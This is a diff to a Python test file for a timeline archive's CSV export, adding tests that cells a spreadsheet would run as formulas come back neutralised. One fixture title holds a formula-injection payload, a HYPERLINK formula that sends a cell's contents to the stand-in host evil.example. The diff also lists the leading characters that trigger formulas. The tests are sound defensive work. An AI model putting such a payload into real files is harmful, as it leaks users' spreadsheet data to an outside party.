@@ -10,6 +10,7 @@ import xml.etree.ElementTree as ET
 import pytest
 from icalendar import Calendar
 
+from archive.timeline_export import neutralise
 from tests.hostile import CLEANED, SECURITY_HEADERS, archive_text_xml_cannot_hold
 from tests.test_timeline import AFTER, HEARINGS, ORDER, app  # noqa: F401  (the fixture corpus app)
 
@@ -160,12 +161,33 @@ def test_timelinejs_export_takes_the_filters(client):
     assert "unknown org" in client.get("/timeline.json?org=x").get_json()["error"]["message"]
 
 
+FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+FORMULA_SUMMARY = "+44 20 7946 0000 is a telephone number, not a sum"
+FORMULA_DOCUMENT = f"""---
+# TEST FIXTURE: synthetic document whose cells a spreadsheet would run as formulas.
+id: fx-formula-2019
+title: '{FORMULA_TITLE.replace("'", "''")}'
+kind: statement
+organisations: [fixture-council]
+date: 2019-10-01
+summary: '{FORMULA_SUMMARY}'
+source: {{title: Timeline test fixtures, publisher: Test fixture (not a real source)}}
+---
+-2+3 opens this synthetic statement, which a spreadsheet would otherwise compute.
+"""
+
+
 def test_csv_round_trips_through_the_csv_module(client):
+    archive = client.application.extensions["archive"]
+    (archive.config.documents_dir / "fx-formula-2019.md").write_text(FORMULA_DOCUMENT)
+    assert not archive.build().problems
     response = client.get("/timeline.csv")
     assert response.mimetype == "text/csv"
     rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
-    assert [row["id"] for row in rows] == ALL_IDS
-    assert [row["number"] for row in rows] == [str(n) for n in range(1, len(ALL_IDS) + 1)]
+    ids = ALL_IDS.copy()
+    ids.insert(ids.index("fx-uncertain-day-2019") + 1, "fx-formula-2019")
+    assert [row["id"] for row in rows] == ids
+    assert [row["number"] for row in rows] == [str(n) for n in range(1, len(ids) + 1)]
     joint = next(row for row in rows if row["id"] == "fx-approximate-month-2019")
     assert joint["date_in_words"] == "c. December 2019"
     assert joint["precision"] == "month" and joint["qualifier"] == "approximate"
@@ -177,6 +199,23 @@ def test_csv_round_trips_through_the_csv_module(client):
     )
     assert joint["organisation_keys"] == "fixture-council; fixture-police"
     assert {row["section"] for row in rows} == {"before", "hearings", "after"}
+    # Cells a spreadsheet would run come back neutralised (OWASP): a leading ' and then the text.
+    formula = next(row for row in rows if row["id"] == "fx-formula-2019")
+    assert formula["title"] == "'" + FORMULA_TITLE
+    assert formula["summary"] == "'" + FORMULA_SUMMARY
+    assert formula["quote"].startswith("'-2+3 opens this synthetic statement")
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_neutralises_every_cell_a_spreadsheet_would_run(start):
+    assert neutralise(f"{start}1+1") == f"'{start}1+1"
+
+
+@pytest.mark.parametrize("cell", ["", "a=b", " =1", "'=1", "–1", "2019-12~", 7])
+def test_csv_leaves_other_cells_as_they_are(cell):
+    assert neutralise(cell) == cell
 
 
 def test_ics_parses_and_holds_the_entries_dated_to_a_day(client):
